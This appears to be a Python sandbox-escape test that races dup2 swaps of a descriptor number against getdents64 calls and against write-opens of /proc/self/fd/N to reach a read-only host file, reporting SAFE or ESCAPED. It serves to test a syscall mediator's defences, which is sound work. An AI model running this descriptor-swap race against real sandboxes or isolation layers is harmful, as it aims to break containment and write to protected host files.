"""A descriptor's number is given to a file of the host while a call about it is answered, 20,000
times each. Stopped by: the mediator judges and opens one duplicate of its own, never the number
a second time. What would be overwritten is compared on the host afterwards.
"""

import ctypes
import os
import sys
import threading

sys.path.insert(0, ".")
from attack import X86, libc

ROUNDS = 20_000
GETDENTS64 = 217 if X86 else 61
READ_ONLY = os.__file__  # of a part of the tree that nobody may write
host = os.open("hello.txt", os.O_RDONLY)
library = os.open(READ_ONLY, os.O_RDONLY)
directory = os.open(".", os.O_RDONLY)
anonymous = os.memfd_create("own")
number = os.dup(directory)
pair = [directory, host]
stop = threading.Event()


def flip():
    while not stop.is_set():
        for other in pair:
            libc.dup2(other, number)


thread = threading.Thread(target=flip)
thread.start()
buffer = ctypes.create_string_buffer(4096)
for _ in range(ROUNDS):
    os.lseek(directory, 0, os.SEEK_SET)
    libc.syscall(GETDENTS64, number, buffer, 4096)
print("SAFE listings, if the host is as it was")
pair[:] = [anonymous, library]
path = b"/proc/self/fd/%d" % number
wanted = os.fstat(library)
reached = 0
for _ in range(ROUNDS):
    opened = libc.open(path, os.O_WRONLY)
    if opened >= 0:
        reached += os.path.samestat(os.fstat(opened), wanted)
        os.close(opened)
stop.set()
thread.join()
print(f"{'ESCAPED' if reached else 'SAFE'} {reached} of {ROUNDS} were opened for writing")
